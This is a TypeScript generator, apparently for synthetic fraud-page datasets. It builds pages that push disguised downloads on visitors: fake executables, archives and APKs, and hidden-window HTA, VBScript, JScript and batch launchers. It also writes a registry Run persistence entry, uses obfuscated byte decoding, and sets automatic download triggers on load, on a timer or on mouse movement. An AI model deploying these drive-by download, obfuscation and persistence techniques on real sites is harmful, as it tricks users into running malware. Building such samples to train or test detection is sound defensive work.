import type { Chance } from '../make/chance.ts'
import type { Made } from '../make/envelope.ts'
import { ownScript } from '../make/libraries.ts'
import { fraudPage } from '../make/made.ts'
import { escaped } from '../make/pages/layout.ts'
import { coded } from './code/coders.ts'
import { scriptTag, whole } from './code/document.ts'
import { packed } from './code/packers.ts'
import { quoted } from './code/tree.ts'
import { commandFor } from './kit/commands.ts'
import { fraudFamily } from './kit/fraud-family.ts'
import { kitUrl, strayHost } from './kit/places.ts'
import { PRETENCES } from './words/download-words.ts'

interface Program {
  readonly extension: string
  readonly type: string
  readonly bytes: Uint8Array
}

const noise = (length: number, chance: Chance) => Buffer.from(chance.base64(length), 'utf8')

/** The heads of the format and then noise: nothing of it runs. */
function windowsProgram(chance: Chance): Uint8Array {
  const head = Buffer.alloc(0x100)
  head.write('MZ', 0, 'latin1')
  head.writeUInt32LE(0x80, 0x3c)
  head.write('This program cannot be run in DOS mode.', 0x4e, 'latin1')
  head.write('PE\0\0', 0x80, 'latin1')
  head.writeUInt16LE(0x8664, 0x84)
  return Buffer.concat([head, noise(400 + chance.below(1500), chance)])
}

function archive(name: string, chance: Chance): Uint8Array {
  const file = Buffer.from(name, 'utf8')
  const data = windowsProgram(chance)
  const local = Buffer.alloc(30)
  local.writeUInt32LE(0x04034b50, 0)
  local.writeUInt16LE(20, 4)
  local.writeUInt32LE(Bun.hash.crc32(data), 14)
  local.writeUInt32LE(data.length, 18)
  local.writeUInt32LE(data.length, 22)
  local.writeUInt16LE(file.length, 26)
  const central = Buffer.alloc(46)
  central.writeUInt32LE(0x02014b50, 0)
  local.copy(central, 6, 4, 28)
  const end = Buffer.alloc(22)
  end.writeUInt32LE(0x06054b50, 0)
  end.writeUInt16LE(1, 8)
  end.writeUInt16LE(1, 10)
  end.writeUInt32LE(central.length + file.length, 12)
  end.writeUInt32LE(local.length + file.length + data.length, 16)
  return Buffer.concat([local, file, data, central, file, end])
}

function program(name: string, chance: Chance): Program {
  const text = (extension: string, type: string, body: string): Program => ({
    extension,
    type,
    bytes: Buffer.from(body, 'utf8'),
  })
  const command = commandFor(chance).text
  const shell = command.replaceAll('"', '""')
  return chance.of<() => Program>([
    () => ({ extension: 'exe', type: 'application/x-msdownload', bytes: windowsProgram(chance) }),
    () => ({
      extension: chance.of(['exe', 'scr', 'pdf.exe', 'com']),
      type: 'application/octet-stream',
      bytes: windowsProgram(chance),
    }),
    () => ({ extension: 'zip', type: 'application/zip', bytes: archive(`${name}.pdf.exe`, chance) }),
    () => ({
      extension: 'msi',
      type: 'application/x-msi',
      bytes: Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), noise(900, chance)]),
    }),
    () =>
      text(
        'hta',
        'application/hta',
        `<html><head><HTA:APPLICATION showInTaskbar="no"><script language="VBScript">CreateObject("WScript.Shell").Run "${shell}",0</script></head></html>`,
      ),
    () =>
      text(
        'js',
        'application/octet-stream',
        `var s=new ActiveXObject("WScript.Shell");s.Run(${quoted(command)},0,false);`,
      ),
    () =>
      text(
        'vbs',
        'application/octet-stream',
        `Set s=CreateObject("WScript.Shell")\r\ns.Run "${shell}",0,False\r\n`,
      ),
    () => text(chance.of(['bat', 'cmd']), 'application/octet-stream', `@echo off\r\n${command}\r\nexit\r\n`),
    () => text('sh', 'application/x-sh', `#!/bin/bash\n${command}\n`),
    () =>
      text(
        'url',
        'application/octet-stream',
        `[InternetShortcut]\r\nURL=file://${strayHost(chance)}@80/pub/${name}.exe\r\n`,
      ),
    () =>
      text(
        'reg',
        'application/octet-stream',
        `Windows Registry Editor Version 5.00\r\n\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"${name}"=${quoted(command)}\r\n`,
      ),
    () => ({
      extension: 'apk',
      type: 'application/vnd.android.package-archive',
      bytes: archive('classes.dex', chance),
    }),
  ])()
}

/** Statements that leave the program's bytes in `u8`. */
function bytesOf({ bytes }: Program, chance: Chance): string {
  const data = Buffer.from(bytes).toString('base64')
  return chance.of([
    () =>
      `var s=atob("${data}"),u8=new Uint8Array(s.length);for(var i=0;i<s.length;i++)u8[i]=s.charCodeAt(i);`,
    () =>
      `var u8=Uint8Array.from(atob([${(data.match(/.{1,180}/g) ?? []).map((one) => `"${one}"`).join(',')}].join("")),function(c){return c.charCodeAt(0)});`,
    () => `var u8=new Uint8Array([${[...bytes].join(',')}]);`,
    () => {
      const key = 1 + chance.below(254)
      const turned = Buffer.from([...bytes].map((byte) => byte ^ key)).toString('base64')
      return `var u8=Uint8Array.from(atob("${turned}"),function(c){return c.charCodeAt(0)^${key}});`
    },
    () => {
      const hex = Buffer.from(bytes).toString('hex')
      return `var u8=new Uint8Array("${hex}".match(/../g).map(function(h){return parseInt(h,16)}));`
    },
    () => `var u8=Uint8Array.from(atob(${coded(data, chance)}),function(c){return c.charCodeAt(0)});`,
    () =>
      `var u8=Uint8Array.from(atob("${[...data].reverse().join('')}".split("").reverse().join("")),function(c){return c.charCodeAt(0)});`,
  ])()
}

/** Statements that hand the bytes over under the name. */
function handOver({ type }: Program, name: string, chance: Chance): string {
  const blob = `new Blob([u8],{type:"${type}"})`
  return chance.of([
    `var a=document.createElement("a");a.href=URL.createObjectURL(${blob});a.download=${quoted(name)};document.body.appendChild(a);a.click();a.remove();`,
    `var b=${blob};if(navigator.msSaveOrOpenBlob){navigator.msSaveOrOpenBlob(b,${quoted(name)})}else{var a=document.createElement("a");a.style="display:none";document.body.appendChild(a);var u=window.URL.createObjectURL(b);a.href=u;a.download=${quoted(name)};a.click();window.URL.revokeObjectURL(u)}`,
    `var r=new FileReader();r.onload=function(){var a=document.createElement("a");a.href=r.result;a.setAttribute("download",${quoted(name)});a.click()};r.readAsDataURL(${blob});`,
    `var a=Object.assign(document.createElement("a"),{href:URL.createObjectURL(new File([u8],${quoted(name)},{type:"${type}"})),download:${quoted(name)}});a.dispatchEvent(new MouseEvent("click"));`,
    `var t="";for(var j=0;j<u8.length;j++)t+=String.fromCharCode(u8[j]);var a=document.createElement("a");a.href="data:${type};base64,"+btoa(t);a.download=${quoted(name)};document.body.append(a);a.click();`,
  ])
}

/** Statements that go to a program that stands somewhere. */
function goTo(name: string, url: string, chance: Chance): string {
  const at = chance.of([
    new URL(`files/${encodeURIComponent(name)}`, url).href,
    `https://${strayHost(chance)}/dl/${encodeURIComponent(name)}`,
    `https://${strayHost(chance)}/${chance.hex(8)}/${encodeURIComponent(name)}?token=${chance.hex(12)}`,
  ])
  const text = chance.maybe(0.5) ? quoted(at) : coded(at, chance)
  return chance.of([
    `location.href=${text};`,
    `window.open(${text},"_self");`,
    `var f=document.createElement("iframe");f.style.display="none";f.src=${text};document.body.appendChild(f);`,
    `var a=document.createElement("a");a.href=${text};a.download="";document.body.appendChild(a);a.click();`,
    `setTimeout(function(){window.location.assign(${text})},600);`,
  ])
}

const TRIGGERS: readonly ((chance: Chance) => string)[] = [
  () => 'document.getElementById("go").onclick=take;',
  () =>
    'document.getElementById("go").addEventListener("click",function(e){e.preventDefault();this.textContent="…";setTimeout(take,700)});',
  (chance) => `setTimeout(take,${500 + chance.below(2500)});document.getElementById("go").onclick=take;`,
  () => 'window.addEventListener("load",function(){setTimeout(take,800)});',
  () =>
    'document.body.addEventListener("mousemove",take,{once:true});document.body.addEventListener("touchstart",take,{once:true});document.getElementById("go").onclick=take;',
]

type Kind = (name: string, chance: Chance, url: string) => { name: string; take: string }
const builtHere: Kind = (stem, chance) => {
  const made = program(stem, chance)
  const name = `${stem}.${made.extension}`
  return { name, take: `${bytesOf(made, chance)}${handOver(made, name, chance)}` }
}
const wentTo: Kind = (stem, chance, url) => {
  const name = `${stem}.${chance.of(['exe', 'msi', 'zip', 'scr', 'hta', 'vbs', 'iso', 'apk', 'dmg', 'js', 'bat'])}`
  return { name, take: goTo(name, url, chance) }
}

function page(kind: Kind, trigger: (chance: Chance) => string, chance: Chance): Made {
  const { language, heading, text, button, file } = chance.of(PRETENCES)
  const url = kitUrl(chance.of(['document', 'update', 'secure file', chance.name(3)]), chance)
  const { name, take } = kind(`${file}_${chance.digits(3)}`, chance, url)
  const code = `function take(){${take}}\n${trigger(chance)}`
  const shape = chance.below(4)
  const script = shape === 0 ? ownScript(url, `assets/${chance.hex(6)}.js`, code) : null
  const tail = script?.tag ?? scriptTag(shape === 1 ? packed(code, 1, chance) : `(function(){${code}})();`)
  const markup = `<div class="box"><h1>${escaped(heading)}</h1><p>${escaped(text)}</p>${chance.maybe(0.5) ? `<p><small>${escaped(name)}</small></p>` : ''}<button id="go">${escaped(button)}</button></div>`
  const body = chance.maybe(0.3)
    ? `<div id="root"></div>${scriptTag(`document.getElementById("root").innerHTML=${coded(markup, chance)};`)}${tail}`
    : `${markup}${tail}`
  return fraudPage(
    url,
    whole({ language, title: heading, head: '<meta name="viewport" content="width=device-width">', body }),
    script === null ? [] : [script.resource],
  )
}

export const downloads = fraudFamily(
  'scripted_download',
  [builtHere, builtHere, wentTo].flatMap((kind) =>
    TRIGGERS.map((trigger) => (chance: Chance) => page(kind, trigger, chance)),
  ),
)
